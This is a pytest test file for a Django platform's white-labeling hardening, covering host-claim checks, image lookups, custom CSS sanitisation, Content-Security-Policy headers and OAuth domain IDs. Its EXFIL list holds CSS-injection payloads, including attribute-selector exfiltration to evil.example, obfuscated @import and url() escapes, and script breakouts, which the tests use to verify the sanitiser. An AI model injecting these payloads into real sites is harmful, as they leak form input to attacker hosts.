"""Hardening of white labeling: nobody but the system claims the platform's own host, the admin's login page is
the system's, anonymous image lookups filter in SQL, custom CSS is sanitised and admin pages carry a CSP,
domainId names an OAuth domain, and the lesser fixes (ETag, concurrent first save, menu assignees cleanup)."""

import uuid

import pytest
from django.db import IntegrityError, connection
from django.test import Client, override_settings
from django.test.utils import CaptureQueriesContext

from branding import css, domains, whitelabel
from branding.levels import SYSTEM, Owner
from branding.models import CustomMenu, CustomMenuAssignee, WhiteLabeling
from tbproject.testing.api import assert_error
from tbproject.testing.factories import make_customer
from tbproject.testing.fixtures import api_as

pytestmark = pytest.mark.django_db

LOGIN = "/api/whiteLabel/loginWhiteLabelParams"


def _login(client, body, **extra):
    return client.post(LOGIN, body, format="json", **extra)


# --- defect 1: the platform's own host ---------------------------------------------------------------------

def test_a_tenant_cannot_claim_the_host_the_platform_answers_on(api, anon):
    assert_error(_login(api, {"domainName": "testserver", "appTitle": "Pwned"}), 400, "platform")
    assert_error(_login(api, {"domainName": "TestServer:8080"}), 400, "platform")
    assert not WhiteLabeling.objects.filter(kind="LOGIN").exists()


@override_settings(PUBLIC_BASE_URL="https://iot.platform.test", ALLOWED_HOSTS=["admin.platform.test", "*"])
def test_a_tenant_cannot_claim_the_public_url_allowed_hosts_or_the_system_base_url(api, sysadmin):
    assert_error(_login(api, {"domainName": "iot.platform.test"}), 400, "platform")
    assert_error(_login(api, {"domainName": "admin.platform.test"}), 400, "platform")
    assert _login(api_as(sysadmin), {"baseUrl": "https://login.platform.test:8443"}).status_code == 200
    assert_error(_login(api, {"domainName": "login.platform.test"}), 400, "platform")
    assert _login(api, {"domainName": "acme.example.com"}).status_code == 200


@pytest.mark.parametrize("bad", [".", "..", "-", "a..b", "-a.com", "a-.com", "evil.example:99999",
                                 "evil.example:0", "a b", "x" * 64 + ".com", "evil.example:"])
def test_it_refuses_what_is_not_a_host_name(api, bad):
    assert_error(_login(api, {"domainName": bad}), 400, "domainName")


def test_the_admin_login_page_is_always_the_systems(api, tenant):
    whitelabel.save(SYSTEM, "LOGIN", {"appTitle": "Platform"})
    # a row claiming the platform's host, as written before the check existed
    WhiteLabeling.objects.create(tenant=tenant, kind="LOGIN", domain_name="testserver",
                                 settings={"appTitle": "Pwned", "customCss": "input{}", "domainName": "testserver"})
    page = Client().get("/admin/login/").content.decode()
    assert "Pwned" not in page and "Platform" in page
    assert Client().get("/api/noauth/whiteLabel/customCss").content == b""
    assert Client().get("/api/noauth/whiteLabel/loginWhiteLabelParams").json()["appTitle"] == "Platform"


# --- defect 2: anonymous image lookups -----------------------------------------------------------------------

def test_the_login_image_lookup_filters_on_the_key_in_sql(anon, tenant):
    WhiteLabeling.objects.create(tenant=tenant, kind="LOGIN", domain_name="acme.example.com",
                                 settings={"logoImageUrl": "data:image/png;base64," + "A" * 1000})
    key = "wanted-logo-key.png"
    with CaptureQueriesContext(connection) as queries:
        assert_error(anon.get(f"/api/noauth/whiteLabel/loginLogo/tenant/{key}"), 404)
    branding = [q["sql"] for q in queries.captured_queries if "branding_whitelabeling" in q["sql"]]
    assert branding and all(key in sql for sql in branding), branding
    assert all("AAAA" not in str(q) for q in queries.captured_queries)


def test_a_login_image_is_not_served_once_its_owner_may_not_white_label(api, anon, tenant, tenant_admin):
    from dashboards import resources

    png = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
                        "1f15c4890000000d49444154789c6300010000050001a5f645400000000049454e44ae426082")
    image = resources.create(tenant_admin, "IMAGE", "logo.png", png, key="logo.png")
    assert _login(api, {"favicon": {"url": f"tb-image;/api/images/tenant/{image.resource_key}"},
                        "domainName": "acme.example.com"}).status_code == 200
    url = f"/api/noauth/whiteLabel/loginFavicon/tenant/{image.resource_key}"
    assert anon.get(url).status_code == 200
    tenant.additional_info = {**(tenant.additional_info or {}), "allowWhiteLabeling": False}
    tenant.save()
    assert_error(anon.get(url), 404)
    assert_error(anon.get(f"/api/noauth/whiteLabel/loginFavicon/other/{image.resource_key}"), 404)


# --- defect 3: custom CSS sanitised, CSP on admin pages ------------------------------------------------------

EXFIL = [
    'input[value^="a"]{background:url(https://evil.example/a)}',
    "input[value^=a]{background:url( '//evil.example/a' )}",
    '@import "https://evil.example/x.css";',
    "@import url(https://evil.example/x.css)",
    "@\\69mport 'https://evil.example/x.css';",
    "a{background:\\75rl(https://evil.example/a)}",
    "a{background:u\\72l(https://evil.example/a)}",
    "a{background:URL(HTTPS://evil.example/a)}",
    "a{background:url(ht\\09tps://evil.example/a)}",
    'a{background:image-set("https://evil.example/a" 1x)}',
    "a{width:expression(alert(1))}",
    "a{behavior:url(x.htc)}",
    "a{-moz-binding:url(x.xml#x)}",
    "a{}</style><script>alert(1)</script>",
    "@imp/**/ort 'https://evil.example/x.css';",
    "a{background:url(/\\evil.example/a)}",
    "a{background:url(javascript:alert(1))}",
]


@pytest.mark.parametrize("bad", EXFIL)
def test_the_sanitiser_removes_every_way_out(bad):
    clean = css.sanitize(bad).lower()
    for needle in ("evil.example", "@import", "expression(", "behavior", "-moz-binding", "</style", "javascript:",
                   "image-set("):
        assert needle not in clean, (bad, clean)


def test_the_sanitiser_keeps_harmless_css():
    good = ('.a { color: red; background: url("/static/ui/x.png") } .b{background:url(data:image/png;base64,AAA=)}'
            ' .i::before { content: "\\f101"; }')
    assert css.sanitize(good) == good


def test_the_custom_css_answer_is_sanitised_and_admin_pages_carry_a_csp(tenant_admin, tenant):
    whitelabel.save(Owner(tenant.pk), "GENERAL", {"customCss": "input[value^=a]{background:url(https://evil.example/a)}"
                                                               " .ok{color:red}"})
    browser = Client()
    browser.force_login(tenant_admin)
    served = browser.get("/api/noauth/whiteLabel/customCss").content.decode()
    assert "evil.example" not in served and ".ok{color:red}" in served
    policy = browser.get("/admin/")["Content-Security-Policy"]
    for directive in ("img-src 'self' data:", "font-src 'self' data:", "connect-src 'self'",
                      "style-src 'self' 'unsafe-inline'"):
        assert directive in policy
    assert "img-src 'self' data:" in Client().get("/admin/login/")["Content-Security-Policy"]


# --- defect 4: domainId -------------------------------------------------------------------------------------

def test_domain_id_must_be_a_uuid(api):
    assert_error(_login(api, {"domainId": {"entityType": "DOMAIN", "id": "not-a-uuid"}}), 400, "domainId")


def test_domain_id_names_the_login_pages_host(api, anon):
    known, before = uuid.uuid4(), domains._resolver
    domains.register_domain_resolver(lambda pk: "oauth.acme.example" if pk == known else None)
    try:
        res = _login(api, {"domainId": {"entityType": "DOMAIN", "id": str(known)}, "appTitle": "Acme"})
        assert res.status_code == 200, res.content
        assert anon.get(LOGIN.replace("/api/", "/api/noauth/"), HTTP_HOST="oauth.acme.example").json()[
            "appTitle"] == "Acme"
        assert_error(_login(api, {"domainId": {"entityType": "DOMAIN", "id": str(uuid.uuid4())}}), 404)
    finally:
        domains.register_domain_resolver(before)


def test_oauth_registers_its_domains(api):
    from oauth.models import Domain

    domain = Domain.objects.create(name="sso.acme.example")
    res = _login(api, {"domainId": {"entityType": "DOMAIN", "id": str(domain.pk)}})
    assert res.status_code == 200, res.content
    assert WhiteLabeling.objects.get(kind="LOGIN").domain_name == "sso.acme.example"


# --- defect 5: lesser ----------------------------------------------------------------------------------------

def test_the_css_answer_has_an_etag(tenant_admin, tenant):
    whitelabel.save(Owner(tenant.pk), "GENERAL", {"customCss": ".x{}"})
    browser = Client()
    browser.force_login(tenant_admin)
    first = browser.get("/api/noauth/whiteLabel/customCss")
    assert first["ETag"]
    again = browser.get("/api/noauth/whiteLabel/customCss", HTTP_IF_NONE_MATCH=first["ETag"])
    assert again.status_code == 304 and again.content == b""


def test_the_custom_css_comes_after_unfolds_styles(tenant_admin):
    browser = Client()
    browser.force_login(tenant_admin)
    page = browser.get("/admin/").content.decode()
    assert page.index("unfold/css/styles.css") < page.index("/api/noauth/whiteLabel/customCss")


def test_a_concurrent_first_save_is_retried_as_an_update(tenant, monkeypatch):
    calls = []
    manager_cls = type(WhiteLabeling.objects)
    original = manager_cls.update_or_create

    def racing(self, *args, **kwargs):
        calls.append(1)
        if len(calls) == 1:  # another request created the row between the lookup and the insert
            WhiteLabeling.objects.create(kind="GENERAL", tenant=tenant, settings={"appTitle": "Other"})
            raise IntegrityError("UNIQUE constraint failed")
        return original(self, *args, **kwargs)

    monkeypatch.setattr(manager_cls, "update_or_create", racing)
    saved = whitelabel.save(Owner(tenant.pk), "GENERAL", {"appTitle": "Mine"})
    assert saved["appTitle"] == "Mine" and len(calls) == 2
    assert WhiteLabeling.objects.get(kind="GENERAL", tenant=tenant).settings["appTitle"] == "Mine"


def test_menu_assignees_go_with_their_entities(api, tenant, customer_user):
    from tbproject.testing.factories import make_group

    customer = make_customer(tenant, title="Gone")
    group = make_group(tenant, name="users", group_type="USER")
    menus = []
    for kind, pk in (("CUSTOMER", customer.pk), ("USER", customer_user.pk), ("ENTITY_GROUP", group.pk)):
        menu = CustomMenu.objects.create(tenant=tenant, name=kind, scope="CUSTOMER")
        CustomMenuAssignee.objects.create(menu=menu, entity_type=kind, entity_id=pk, key=f"{kind}:x")
        menus.append(menu)
    customer.delete()
    customer_user.delete()
    group.delete()
    assert not CustomMenuAssignee.objects.filter(menu__in=menus).exists()
